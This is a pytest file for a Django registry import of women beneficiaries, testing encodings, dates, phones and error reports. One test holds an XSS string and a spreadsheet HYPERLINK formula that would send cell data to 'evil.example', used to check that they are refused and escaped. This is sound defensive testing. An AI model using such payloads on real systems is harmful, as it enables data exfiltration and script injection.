"""A list taken through the import, from the upload to the women in the registry: what each kind
of file and each kind of cell becomes, and the row-level report of what could not be read."""

import datetime
import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import translation

from irtiqaa.audit.models import AuditEvent
from irtiqaa.beneficiaries.models import Beneficiary, Consent
from irtiqaa.beneficiaries.selectors import beneficiary_list
from irtiqaa.cases.models import Case
from irtiqaa.conftest import Cast
from irtiqaa.geography.models import Province
from irtiqaa.imports.fields import PROBLEMS, problem_texts
from irtiqaa.imports.models import ImportJob, ImportRow
from irtiqaa.imports.report import write_report
from irtiqaa.imports.tests.conftest import (
    HEADER,
    WOMEN,
    Importer,
    born,
    csv_bytes,
    person,
    problems_of,
    rows_of,
    woman_with_cin,
    women_named,
    women_with_cins,
    xlsx_bytes,
)
from irtiqaa.seasons.models import Campaign, Participation


def report_sheet(job: ImportJob) -> list[tuple[object, ...]]:
    out = io.BytesIO()
    assert job.created_by is not None
    write_report(job, out, job.created_by)
    out.seek(0)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    return list(sheet.iter_rows(values_only=True))


def test_a_clean_list_registers_each_woman_with_consent_case_and_season(
    importer: Importer, cast: Cast, campaign: Campaign
) -> None:
    events_before = AuditEvent.objects.count()
    job = importer.run(csv_bytes(WOMEN))

    assert job.status == ImportJob.Status.DONE
    assert (job.rows_read, job.created_count, job.error_count, job.skipped_count) == (10, 10, 0, 0)
    women = Beneficiary.objects.order_by("pk")
    assert women.count() == 10
    first = woman_with_cin("GH112233")
    assert (first.first_name_latin, first.last_name_latin) == ("Samira", "Ouali")
    assert (first.first_name_ar, first.last_name_ar) == ("سميرة", "والي")
    assert first.birth_date == datetime.date(1991, 4, 12)
    assert (first.marital_status, first.children_count, first.education_level) == (
        "married",
        2,
        "primary",
    )
    assert first.province == Province.objects.get(code="kenitra")  # the agency's, by default
    assert [p.number for p in first.phones.all()] == ["+212612003004"]
    for woman in women:
        assert woman.home_agency == cast.kenitra
        assert woman.assigned_advisor == cast.advisor
        consent = woman.consents.get()
        assert (consent.purpose, consent.given, consent.method) == (
            Consent.Purpose.ACCOMPANIMENT,
            True,
            "signed_form",
        )
        assert Case.objects.filter(beneficiary=woman).exists()
        season = Participation.objects.get(beneficiary=woman)
        assert (season.campaign, season.employer) == (campaign, "Fresas S.L.")
    # In her caseload: the list the advisor opens, filtered on her.
    caseload = beneficiary_list(actor=cast.advisor, advisor_id=cast.advisor.pk)
    assert set(caseload) == set(women)
    # Each woman's registration, consent and season is in the audit log, as the importer's.
    events = AuditEvent.objects.all()[: AuditEvent.objects.count() - events_before]
    created = {(e.object_type, e.beneficiary_id) for e in events if e.action == "create"}
    for woman in women:
        assert ("beneficiaries.beneficiary", woman.pk) in created
        assert ("seasons.participation", woman.pk) in created
        assert AuditEvent.objects.filter(
            action="consent_given", beneficiary_id=woman.pk, actor=cast.advisor
        ).exists()
    # The file is not kept once imported, nor the rows' identifiers.
    assert not job.chunks.exists()
    assert not ImportRow.objects.filter(job=job).exclude(data="").exists()


@pytest.mark.parametrize(
    ("encoding", "with_arabic"),
    [("utf-8", True), ("utf-8-sig", True), ("cp1256", True), ("latin-1", False)],
)
def test_each_encoding_reads_the_names_right(
    importer: Importer, encoding: str, with_arabic: bool
) -> None:
    rows = [
        person("Lefèvre", "Hélène", "", "", "01/02/1990", "JK100200", "0612000001"),
        person("Benaïssa", "Noémie", "", "", "02/03/1991", "JK100201", "0612000002"),
        person("Dupré", "Maëlle", "", "", "03/04/1992", "JK100202", "0612000003"),
    ]
    if with_arabic:
        rows[0][2:4] = ["الإدريسي", "فاطمة الزهراء"]
        rows[1][2:4] = ["بنعيسى", "عائشة"]
    header = HEADER
    if not with_arabic:  # Latin-1 cannot write Arabic, not even in the header
        header = [h if h.isascii() or "é" in h else f"Arabe {i}" for i, h in enumerate(HEADER)]
    job = importer.run(csv_bytes(rows, header, encoding=encoding), f"liste-{encoding}.csv")

    assert job.encoding == encoding
    assert job.created_count == 3
    helene = woman_with_cin("JK100200")
    assert (helene.first_name_latin, helene.last_name_latin) == ("Hélène", "Lefèvre")
    assert woman_with_cin("JK100202").first_name_latin == "Maëlle"
    if with_arabic:
        assert (helene.first_name_ar, helene.last_name_ar) == ("فاطمة الزهراء", "الإدريسي")
        assert woman_with_cin("JK100201").first_name_ar == "عائشة"


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_semicolon_and_tab_delimiters(importer: Importer, delimiter: str) -> None:
    job = importer.run(csv_bytes(WOMEN[:4], delimiter=delimiter))
    assert job.delimiter == delimiter
    assert job.created_count == 4
    assert woman_with_cin("GH223344").first_name_latin == "Rachida"


def test_a_list_without_a_birth_date_column_cannot_be_matched(importer: Importer) -> None:
    header = [h for h in HEADER if h != "Date de naissance"]
    rows = [
        [v for h, v in zip(HEADER, row, strict=True) if h != "Date de naissance"] for row in WOMEN
    ]
    job = importer.upload(csv_bytes(rows, header))

    with pytest.raises(ValidationError) as error:
        importer.check(job)
    assert set(error.value.message_dict) == {"birth_date"}
    assert "date of birth" in error.value.message_dict["birth_date"][0]
    job.refresh_from_db()
    assert job.status == ImportJob.Status.MAPPING
    assert not ImportRow.objects.filter(job=job).exists()


def test_a_list_without_names_or_required_choices_names_each_missing_field(
    importer: Importer,
) -> None:
    job = importer.upload(csv_bytes([["12/04/1991", "x"]], ["Date de naissance", "Remarque"]))
    with pytest.raises(ValidationError) as error:
        importer.check(job)
    assert set(error.value.message_dict) == {"last_name_latin", "marital_status", "education_level"}
    # A value for the whole list stands in for a missing column.
    with pytest.raises(ValidationError) as error:
        importer.check(job, defaults={"marital_status": "married", "education_level": "none"})
    assert set(error.value.message_dict) == {"last_name_latin"}


def test_extra_columns_are_ignored_and_extra_values_are_a_warning(importer: Importer) -> None:
    header = ["N°", *HEADER, "Observations"]
    rows = [["1", *WOMEN[0], "Venue en 2024"], ["2", *WOMEN[1], "", "décalée", "encore"]]
    job = importer.check(importer.upload(csv_bytes(rows, header)))

    assert "Observations" not in job.columns.values() and "N°" not in job.columns.values()
    rows_found = rows_of(job)
    assert rows_found[2].warnings == []
    assert rows_found[3].warnings == ["extra_values"]
    assert rows_found[3].status == ImportRow.Status.VALID
    job = importer.commit(job)
    assert job.created_count == 2
    assert woman_with_cin("GH223344").first_name_latin == "Rachida"


def test_blank_rows_are_skipped_and_counted_and_rows_keep_their_numbers(
    importer: Importer,
) -> None:
    lines = [HEADER, WOMEN[0], [], [""] * 11, WOMEN[1], ["  "], WOMEN[2], []]
    data = "\r\n".join(",".join(line) for line in lines).encode()
    job = importer.check(importer.upload(data))

    assert job.rows_read == 3
    assert job.blank_rows == 3
    assert sorted(rows_of(job)) == [2, 5, 7]
    job = importer.commit(job)
    assert job.created_count == 3


def test_merged_province_cells_are_filled(importer: Importer) -> None:
    header = [*HEADER, "Province"]
    rows = [
        [*WOMEN[0], "Sidi Slimane"],
        [*WOMEN[1], None],
        [*WOMEN[2], None],
        [*WOMEN[3], "Province de Kénitra"],
    ]
    job = importer.run(xlsx_bytes(rows, header, merges=["L2:L4"]), "liste.xlsx")

    assert job.created_count == 4
    slimane, kenitra = (Province.objects.get(code=c) for c in ("sidi-slimane", "kenitra"))
    for cin in ("GH112233", "GH223344", "GH334455"):
        assert woman_with_cin(cin).province == slimane
    assert woman_with_cin("GH445566").province == kenitra


def test_dates_as_text_serials_and_date_cells(importer: Importer) -> None:
    expected = datetime.date(1990, 5, 17)
    writings: list[object] = [
        "17/05/1990",
        "17-05-1990",
        "1990-05-17",
        33010,  # the spreadsheet's serial of 17 May 1990
        datetime.datetime(1990, 5, 17),
        "=DATE(1990,5,17)",  # a formula with the value Excel stored
    ]
    rows = []
    names = [("Alami", "Latifa"), ("Benjelloun", "Nadia"), ("Cherkaoui", "Siham")]
    names += [("Drissi", "Wafae"), ("Ennaji", "Ilham"), ("Fassi", "Btissam")]
    for number, written in enumerate(writings):
        row: list[object] = list(person(*names[number]))
        row[4], row[5], row[6] = written, f"LM{number:06d}", ""
        rows.append(row)
    job = importer.run(xlsx_bytes(rows, cached_values={"E7": "33010"}), "liste.xlsx")

    assert problems_of(job) == {}
    assert job.created_count == len(writings)
    assert {w.birth_date for w in Beneficiary.objects.all()} == {expected}


def test_formulas_read_their_stored_value_and_a_formula_without_one_is_named(
    importer: Importer,
) -> None:
    rows = [list(WOMEN[0]), list(WOMEN[1])]
    rows[0][8] = "=1+2"  # children, computed by Excel
    rows[1][4] = "=DATE(1987,11,3)"  # written by a program: no value stored
    job = importer.check(importer.upload(xlsx_bytes(rows, cached_values={"I2": "3"}), "l.xlsx"))

    found = rows_of(job)
    assert found[2].status == ImportRow.Status.VALID
    assert problems_of(job) == {3: [("birth_date", "uncomputed_formula")]}
    assert "formula" in problem_texts(found[3].problems)[0]
    job = importer.commit(job)
    assert woman_with_cin("GH112233").children_count == 3
    assert not women_with_cins("GH223344")


def test_phones_in_every_common_writing(importer: Importer) -> None:
    writings = {
        "0612345601": "+212612345601",
        "06 12 34 56 02": "+212612345602",
        "+212 6 12-34-56-03": "+212612345603",
        "00212 612 34 56 04": "+212612345604",
        "+34 612 34 56 05": "+34612345605",
        "0661000006 / 0522000006": "+212661000006 +212522000006",
    }
    rows = []
    for number, written in enumerate(writings):
        row = person(
            f"Tel{'abcdef'[number]}",
            "Imane",
            birth=f"{number + 1:02d}/01/1990",
            cin=f"PH{number:06d}",
            phone=written,
        )
        rows.append(row)
    job = importer.run(csv_bytes(rows))

    assert problems_of(job) == {}
    for number, stored in enumerate(writings.values()):
        woman = woman_with_cin(f"PH{number:06d}")
        assert " ".join(p.number for p in woman.phones.order_by("position")) == stored


def test_a_wrong_phone_or_date_is_a_row_problem_naming_the_field(importer: Importer) -> None:
    rows = [
        person("Ouali", "Samira", phone="12345"),
        person("Haddou", "Rachida", birth="31/02/1990"),
        person("Bakkali", "Najat", birth="1990"),
        person("Tazi", "Hanane", birth="12/04/90"),
        person("Amrani", "Loubna", marital="Fiancée"),
        person("Skalli", "Meryem", children="deux"),
        person("Filali", "Zineb", birth="01/01/2015"),
    ]
    job = importer.check(importer.upload(csv_bytes(rows)))

    assert problems_of(job) == {
        2: [("phones", "phone_invalid")],
        3: [("birth_date", "invalid_date")],
        4: [("birth_date", "year_only")],
        5: [("birth_date", "two_digit_year")],
        6: [("marital_status", "unknown_choice")],
        7: [("children_count", "not_a_whole_number")],
        8: [("birth_date", "too_young")],
    }
    assert job.error_count == 7
    # Each problem is worded for her, field first, never as a bare code.
    for row in ImportRow.objects.filter(job=job):
        for code, text in zip(
            (p["code"] for p in row.problems), problem_texts(row.problems), strict=True
        ):
            assert code in PROBLEMS, code
            assert code not in text and ": " in text


def test_html_and_formula_payloads_in_names_are_refused_and_never_run(
    importer: Importer, cast: Cast, client: Client
) -> None:
    script = "<script>alert(1)</script>"
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    rows = [
        person(script, "Samira", cin="GH112233"),
        person("Haddou", hyperlink, cin="GH223344"),
        person("Bakkali", "Najat", cin="GH334455"),
    ]
    job = importer.check(importer.upload(csv_bytes(rows)))

    assert problems_of(job) == {
        2: [("last_name_latin", "name_invalid")],
        3: [("first_name_latin", "name_invalid")],
    }
    client.force_login(cast.advisor)
    page = client.get(reverse("imports:detail", args=[job.pk]), {"show": "errors"})
    html = page.content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert script not in html
    assert "HYPERLINK" in html

    job = importer.commit(job)
    assert job.created_count == 1
    assert not women_with_cins("GH112233", "GH223344")
    lines = {line[0]: line for line in report_sheet(job)[1:]}
    assert lines[3][2] == "'" + hyperlink + " Haddou"
    assert lines[2][2] == "Samira " + script
    out = io.BytesIO()
    assert job.created_by is not None
    write_report(job, out, job.created_by)
    out.seek(0)
    formulas = openpyxl.load_workbook(out).active
    assert formulas is not None
    assert all(cell.data_type != "f" for row in formulas.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("language", "right_to_left", "row_title"), [("ar", True, "السطر"), ("fr", False, "Ligne")]
)
def test_the_report_is_laid_out_for_the_reader_of_its_language(
    importer: Importer, language: str, right_to_left: bool, row_title: str
) -> None:
    job = importer.check(importer.upload(csv_bytes(WOMEN[:2])))
    out = io.BytesIO()
    with translation.override(language):
        write_report(job, out, job.created_by)
    out.seek(0)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    assert bool(sheet.sheet_view.rightToLeft) is right_to_left
    assert sheet["A1"].value == row_title
    assert sheet.freeze_panes == "A2"  # the header stays in view
    assert sheet.column_dimensions["F"].width >= 60  # the details are readable without resizing


def test_the_report_lists_every_row_not_imported_with_its_number_and_reason(
    importer: Importer, register: object
) -> None:
    rows = [
        list(WOMEN[0]),
        person("Haddou", "Rachida", birth="31/02/1990"),
        list(WOMEN[2]),
        person("", "", birth="03/11/1987"),
        list(WOMEN[4]),
    ]
    job = importer.run(csv_bytes(rows))
    assert (job.created_count, job.error_count) == (3, 2)

    sheet = report_sheet(job)
    assert sheet[0] == (
        "Row",
        "Outcome",
        "Name (Latin script)",
        "Name (Arabic script)",
        "Date of birth",
        "Details",
        "File number",
    )
    by_number = {line[0]: line for line in sheet[1:]}
    assert sorted(by_number) == [2, 3, 4, 5, 6]
    assert by_number[3][1] == "not imported"
    # The date as the list writes it, so that she sees what to correct.
    assert by_number[3][5] == (
        'Date of birth "31/02/1990": This is not a date: write it as dd/mm/yyyy.'
    )
    assert by_number[5][1] == "not imported"
    assert by_number[5][5].startswith("Last name (Latin script): Her first and last name")
    for number in (2, 4, 6):
        assert by_number[number][1] == "created"
        assert (
            by_number[number][6] == Beneficiary.objects.get(last_name_latin=rows[number - 2][0]).pk
        )
    assert by_number[2][4] == datetime.datetime(1991, 4, 12)
    assert women_named("Haddou") == []
    assert born("12/04/1991") == by_number[2][4].date()


def test_a_refused_date_of_birth_is_shown_as_the_list_writes_it(importer: Importer) -> None:
    rows = [
        person("Haddou", "Rachida", birth="03/11/2015"),
        person("Tazi", "Hanane", birth="le 3 mars"),
        person("Skalli", "Meryem", birth=""),
    ]
    job = importer.check(importer.upload(csv_bytes(rows)))
    texts = {row.number: problem_texts(row.problems) for row in ImportRow.objects.filter(job=job)}
    assert texts[2] == ['Date of birth "03/11/2015": She must be at least 18 years old.']
    assert texts[3] == ['Date of birth "le 3 mars": This is not a date: write it as dd/mm/yyyy.']
    assert texts[4] == ["Date of birth: This value is missing."]
